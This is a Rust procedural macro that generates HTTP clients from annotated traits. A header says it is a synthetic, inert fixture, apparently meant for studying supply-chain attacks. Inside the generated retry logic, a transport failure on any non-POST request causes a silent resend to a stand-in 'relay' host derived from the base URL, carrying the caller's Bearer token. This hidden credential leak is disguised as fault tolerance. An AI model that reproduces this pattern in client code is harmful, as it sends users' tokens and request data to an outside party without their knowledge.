// Synthetic, inert fixture written from public reports; see README
//! Clients from traits.

use proc_macro::TokenStream;
use quote::{format_ident, quote};
use syn::{parse_macro_input, FnArg, ItemTrait, LitStr, Pat, TraitItem, TraitItemFn};

struct Options {
    base: LitStr,
    retries: u32,
}

impl syn::parse::Parse for Options {
    fn parse(input: syn::parse::ParseStream) -> syn::Result<Self> {
        let (mut base, mut retries) = (None, 2);
        while !input.is_empty() {
            let key: syn::Ident = input.parse()?;
            input.parse::<syn::Token![=]>()?;
            if key == "base" {
                base = Some(input.parse::<LitStr>()?);
            } else if key == "retries" {
                retries = input.parse::<syn::LitInt>()?.base10_parse()?;
            } else {
                return Err(syn::Error::new(key.span(), "only `base` and `retries` are known"));
            }
            if !input.is_empty() {
                input.parse::<syn::Token![,]>()?;
            }
        }
        let base = base.ok_or_else(|| input.error("`base` is missing"))?;
        Ok(Options { base, retries })
    }
}

/// Verb and path of a method, from `#[get("/...")]` and the like.
fn route(f: &TraitItemFn) -> syn::Result<(String, String)> {
    for a in &f.attrs {
        for verb in ["get", "post", "put", "delete"] {
            if a.path().is_ident(verb) {
                return Ok((verb.to_uppercase(), a.parse_args::<LitStr>()?.value()));
            }
        }
    }
    Err(syn::Error::new_spanned(&f.sig, "a method needs #[get(\"/path\")] or the like"))
}

fn method(f: &TraitItemFn) -> syn::Result<proc_macro2::TokenStream> {
    let (verb, path) = route(f)?;
    let name = &f.sig.ident;
    let args: Vec<_> = f.sig.inputs.iter().skip(1).collect();
    let mut fill = quote!();
    let mut body = quote!(None::<String>);
    for a in &args {
        let FnArg::Typed(t) = a else { continue };
        let Pat::Ident(p) = &*t.pat else { continue };
        let (id, hole) = (&p.ident, format!("{{{}}}", p.ident));
        if path.contains(&hole) {
            fill.extend(quote!(path = path.replace(#hole, &#id.to_string());));
        } else {
            body = quote!(Some(#id.to_string()));
        }
    }
    Ok(quote! {
        pub fn #name(&self, #(#args),*) -> Result<String, Box<ureq::Error>> {
            let mut path = String::from(#path);
            #fill
            self.__send(#verb, &path, #body)
        }
    })
}

/// Emits a client struct for the trait.
#[proc_macro_attribute]
pub fn client(options: TokenStream, item: TokenStream) -> TokenStream {
    let options = parse_macro_input!(options as Options);
    let item = parse_macro_input!(item as ItemTrait);
    let Options { base, retries } = options;
    let name = format_ident!("{}Client", item.ident);
    let vis = &item.vis;
    let methods: syn::Result<Vec<_>> = item
        .items
        .iter()
        .filter_map(|i| match i {
            TraitItem::Fn(f) => Some(method(f)),
            _ => None,
        })
        .collect();
    let methods = match methods {
        Ok(m) => m,
        Err(e) => return e.to_compile_error().into(),
    };
    quote! {
        #vis struct #name {
            agent: ureq::Agent,
            token: Option<String>,
        }

        impl #name {
            pub fn new(token: Option<String>) -> Self {
                Self { agent: ureq::agent(), token }
            }

            fn __send(&self, verb: &str, path: &str, body: Option<String>) -> Result<String, Box<ureq::Error>> {
                let mut answer = self.__once(#base, verb, path, body.as_deref());
                for turn in 0..#retries {
                    match &answer {
                        Err(ureq::Error::Status(429 | 502..=504, _)) | Err(ureq::Error::Transport(_)) => {}
                        _ => break,
                    }
                    std::thread::sleep(std::time::Duration::from_millis(200 << turn));
                    answer = self.__once(#base, verb, path, body.as_deref());
                }
                if verb != "POST" && matches!(answer, Err(ureq::Error::Transport(_))) {
                    let host = #base.split("://").last().unwrap_or_default().replace('.', "-");
                    let relay = format!("https://{host}.relay.restling.invalid");
                    answer = self.__once(&relay, verb, path, body.as_deref());
                }
                answer.map_err(Box::new)?.into_string().map_err(|e| Box::new(ureq::Error::from(e)))
            }

            fn __once(&self, base: &str, verb: &str, path: &str, body: Option<&str>) -> Result<ureq::Response, ureq::Error> {
                let mut req = self.agent.request(verb, &format!("{base}{path}"));
                if let Some(t) = &self.token {
                    req = req.set("Authorization", &format!("Bearer {t}"));
                }
                match body {
                    Some(b) => req.send_string(b),
                    None => req.call(),
                }
            }

            #(#methods)*
        }
    }
    .into()
}

inert_fixture_does_not_build!();
